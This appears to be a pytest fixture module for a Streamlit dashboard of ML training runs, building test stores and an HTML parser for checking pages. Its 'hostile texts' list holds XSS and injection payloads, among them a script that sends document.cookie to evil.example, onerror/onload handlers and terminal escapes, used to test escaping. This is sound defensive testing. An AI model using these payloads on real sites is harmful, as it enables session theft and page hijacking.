"""Stores as a reader of the dashboard may have them, and a browser-less dashboard that shows one."""

from __future__ import annotations

import html.parser
import random
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from harness.config.run import RunConfig
from harness.records.data import Example
from harness.records.rollout import Rollout, Trajectory
from harness.records.score import Point, Profile, Score
from harness.records.training import Interim, Spent, Step
from harness.storage.store import Store
from harness.system.processes import this_owner

APP = Path(__file__).parents[2] / "dashboard" / "app.py"
PAGES = ("overview", "leaderboard", "compare", "ablations", "samples", "replay", "exact_lab", "cost", "run", "grid")
BACK, END = 9, 0
SECONDS = 60  # that a page may take on a busy machine before a test gives up


def score(metric: str, value: float | None, direction: Any = "lower", **more: Any) -> Score:
    given: dict[str, Any] = {"definition": "law", "parameters": {}, "reason": None, "unit": "fraction"}
    return Score(metric, value=value, n=7, direction=direction, texts_hash="t", **(given | more))


def rollout(text: str = "ab", pieces: Sequence[str] = ("a", "x", "<backspace>", "b", "<end>")) -> Rollout:
    """Written, deleted, written again, ended."""
    actions = (1, 2, BACK, 3, END)
    tops = tuple(((action, piece, 0.6), (4, "z", 0.3)) for action, piece in zip(actions, pieces, strict=True))
    return Rollout(Trajectory((5,), actions), (-0.5,) * 5, "ended", text, (1, 3), tuple(pieces), tops)


def config(seed: int = 0, backspace: bool = False, trainer: Any = "mle", **more: Any) -> RunConfig:
    seeds = {"train": seed, "sample": seed, "metric": seed}
    given = {"benchmark": "text", "trainer": trainer, "actions": {"backspace": backspace}, "seeds": seeds}
    given |= {"training": {"steps": 1000}}
    return RunConfig.model_validate(given | more)


def finish(store: Store, run: RunConfig, value: float = 0.5, grid: str = "g", **more: Any) -> str:
    """A finished run with a curve, scores, a profile and two rollouts; `interims` are scores while training."""
    store.enqueue(grid, [run])
    assert store.claim(run.run_id, this_owner())
    steps = more.pop("steps", [Step(n, 10 * n, 0.5 * n, 2.0 / n, 1e-3, {"reward": n}) for n in (1, 2, 3)])
    store.log(run.run_id, this_owner(), steps, None, more.pop("interims", ()))
    results: dict[str, Any] = {
        "scores": [
            score("out_of_support", value),
            score("perplexity", 10 + value, unit="per token"),
            score("diversity", 0.9, "reference"),
            score("bad_texts", None, reason="no law"),
        ],
        "profiles": [
            Profile(
                "lost_at", "law", {}, "position (tokens)", "fraction", "lower", (Point(0, 0.1, 9), Point(1, value, 9))
            )
        ],
        "prompts": [Example(" human", "once"), Example(" expert", "twice")],
        "rollouts": [rollout(), rollout("")],
        "backspace_id": BACK,
        "provenance": {"data_hash": "d", "sampled_actions": 5, "peak_memory_bytes": 2**20, "machine": {"cpu": "x"}},
    }
    store.finish(run.run_id, this_owner(), **(results | more))
    return run.run_id


def new(folder: Path) -> str:
    return f"sqlite:///{folder}/runs.db"


def empty(folder: Path) -> str:
    Store(new(folder)).close()
    return new(folder)


def one_run(folder: Path) -> str:
    with Store(new(folder)) as store:
        finish(store, config())
    return new(folder)


def one_seed(folder: Path) -> str:
    return two_groups(folder, seeds=1)


def sample(_: Path) -> str:
    return f"sqlite:///{APP.parent / 'sample' / 'runs.db'}"


def two_groups(folder: Path, seeds: int = 7) -> str:
    """mle at .5 + seed / 100 and bc with <backspace> .2 below it: seven seeds separate the two."""
    with Store(new(folder)) as store:
        for seed in range(seeds):
            finish(store, config(seed), 0.5 + seed / 100)
            finish(store, config(seed, True, "bc"), 0.3 + seed / 90)
    return new(folder)


def sizes(folder: Path) -> str:
    """Two lengths of `language`, and `text`: every score and number by position is in three tables."""
    with Store(new(folder)) as store:
        lengths: list[Any] = [{"name": "language", "length": length} for length in (12, 24)]
        for place, benchmark in enumerate([*lengths, "text"]):
            for seed in range(2):
                for trainer, worse in (("mle", 0), ("bc", 1)):
                    run = config(seed, bool(worse), trainer, benchmark=benchmark)
                    finish(store, run, 0.5 + worse + seed / 100 + place / 10, provenance={"data_hash": f"d{place}"})
    return new(folder)


def two_benchmarks(folder: Path) -> str:
    """Two benchmarks with nothing in common: `language` has a law, interim scores, curves by position and 23 prompts.

    `text` has three groups on other seeds, one prompt and no law: one with scores, one whose scores have reasons only,
    and one without a score, a curve or a text.
    """
    language: Any = {"name": "language", "length": 12}
    many = {"prompts": [Example(f" start {i}", "an end") for i in range(23)], "rollouts": [rollout()] * 23}
    with Store(new(folder)) as store:
        for seed in range(2):
            for trainer, worse in (("mle", 0.0), ("bc", 0.1)):
                run = config(seed, bool(worse), trainer, benchmark=language)
                far = [score("exact_kl", worse + seed / 9), score("out_of_support", 0.5 + worse + seed / 100)]
                points = [Interim(Spent(n, 9 * n, 0.5), Spent(n - 1, 9 * n - 9, 0.0), tuple(far[1:])) for n in (1, 2)]
                finish(store, run, interims=points, provenance={"data_hash": "l"}, scores=far, **many)
        none = {"profiles": [], "provenance": {"data_hash": "t"}}
        reasons = [score("out_of_support", None, reason="no law"), score("perplexity", None, reason="no text")]
        for seed in (3, 4):
            finish(store, config(seed), scores=[score("perplexity", 9.0), score("diversity", 0.9, "reference")], **none)
            finish(store, config(seed, True), scores=reasons, **none)
            finish(store, config(seed, trainer="bc"), scores=[], prompts=[], rollouts=[], steps=[], **none)
    return new(folder)


def changed_corpus(folder: Path) -> str:
    """The same two groups on two contents of a corpus: three seeds before it was changed, three after."""
    with Store(new(folder)) as store:
        for seed in range(6):
            data = {"data_hash": "before" if seed < 3 else "after"}
            finish(store, config(seed), 0.5 + seed / 100, provenance=data)
            finish(store, config(seed, True, "bc"), 0.3 + seed / 90, provenance=data)
    return new(folder)


def scored_on_the_way(folder: Path) -> str:
    """Two seeds: mle falls from .5 to .4 at 100 and 200 tokens, bc from .45 to .44 at 120 and 240."""
    with Store(new(folder)) as store:
        for seed in (0, 1):
            for run, cost, values in (
                (config(seed), 100, (0.5, 0.4)),
                (config(seed, True, "bc"), 120, (0.45, 0.44)),
            ):
                points = [
                    Interim(
                        Spent(n, cost * n, n / 2), Spent(n - 1, cost * (n - 1), 0.0), (score("out_of_support", value),)
                    )
                    for n, value in enumerate(values, start=1)
                ]
                finish(store, run, interims=points)
    return new(folder)


def failed_again(folder: Path) -> str:
    """Two cells that failed twice, and one that failed once and gave no reason."""
    with Store(new(folder)) as store:
        for seed, times in ((0, 2), (1, 2), (2, 1)):
            for place in range(times):
                store.enqueue("g", [config(seed)])
                assert store.claim(config(seed).run_id, this_owner())
                store.log(config(seed).run_id, this_owner(), [Step(1 + place, 5, 0.5, 2.0, 1e-3, {})])
                why = f"Traceback\nOutOfMemory: seed {seed}" if times > 1 else ""
                store.fail(config(seed).run_id, this_owner(), why)
    return new(folder)


def failed_grid(folder: Path) -> str:
    with Store(new(folder)) as store:
        for seed in range(3):
            run = config(seed)
            store.enqueue("g", [run])
            assert store.claim(run.run_id, this_owner())
            store.fail(run.run_id, this_owner(), f"Traceback\nOutOfMemory: seed {seed}")
    return new(folder)


def running_grid(folder: Path) -> str:
    """One done, one at half of its training, one pending, one failed."""
    with Store(new(folder)) as store:
        store.enqueue("g", [config(seed) for seed in range(4)])
        finish(store, config(0))
        for seed in (1, 3):
            assert store.claim(config(seed).run_id, this_owner())
        store.log(config(1).run_id, this_owner(), [Step(500, 5, 0.5, 2.0, 1e-3, {})])
        store.fail(config(3).run_id, this_owner(), "lost its disk")
    return new(folder)


def older(folder: Path) -> str:
    one_run(folder)
    with Store(new(folder)) as store, store.database.write() as connection:
        connection.exec_driver_sql("UPDATE meta SET value = '0' WHERE key = 'schema'")
    return new(folder)


def nothing(folder: Path) -> str:
    return new(folder)


STORES = (nothing, empty, one_run, two_groups, scored_on_the_way, failed_grid, running_grid, older)

# ------------------------------------------------------------------------------------------------ hostile texts

ATTACKS = (
    "<script>fetch('https://evil.example/' + document.cookie)</script>",
    "<img src=https://evil.example/beacon.png onerror=alert(1)>",
    "![beacon](https://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "</div></p><style>body{display:none}</style><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "\u202egnp.exe\u2066",
    "\x1b[2J\x1b]0;owned\x07",
    "a\x00b",
    "\ud800",
    "$\\LaTeX$ :red[x] :material/skull: **bold** # head",
    "{{ 7*7 }} ${7*7} %s",
    "\u2028line\u2029",
    "&lt;b&gt;",
    "data.value; alert(1)",
)


def hostile(count: int, seed: int = 0) -> list[str]:
    """Texts that try to be something else, alone and run together."""
    rng = random.Random(seed)
    return [*ATTACKS, *("".join(rng.choices([*ATTACKS, " ", "\n", "word"], k=3)) for _ in range(count - len(ATTACKS)))]


# ----------------------------------------------------------------------------------------------- the dashboard


@pytest.fixture
def shown(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Any:
    """`shown(make)`: the dashboard of the store that `make` puts into a folder, at its first page."""

    def start(make: Any, **query: str) -> AppTest:
        monkeypatch.setenv("HARNESS_STORE", make(tmp_path))
        app = AppTest.from_file(APP, default_timeout=SECONDS)
        for name, value in query.items():
            app.query_params[name] = value
        return app.run()

    return start


def turn_to(app: AppTest, page: str) -> AppTest:
    """Another page; nothing on it failed."""
    app.switch_page(f"app_pages/{page}.py").run()
    assert not app.exception, (page, [str(one) for one in app.exception])
    return app


def htmls(app: AppTest) -> list[str]:
    """Everything on the page that is HTML, the style sheet left out."""
    found = [element.proto.body for part in (app.main, app.sidebar) for element in part.get("html")]
    return [body for body in found if not body.startswith("<style>")]


class Reader(html.parser.HTMLParser):
    """The tags, attributes, addresses, hints and text of HTML."""

    def __init__(self, bodies: Sequence[str]) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.hints: list[str] = []
        self.text: list[str] = []
        with closing(self):
            for body in bodies:
                self.feed(body)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [str(value) for name, value in attrs if name in ("href", "src")]
        self.hints += [str(value) for name, value in attrs if name in ("title", "aria-label")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def words(app: AppTest) -> str:
    """The visible text of the page's HTML, the sidebar left out."""
    return "\n".join(Reader([element.proto.body for element in app.main.get("html")]).text)
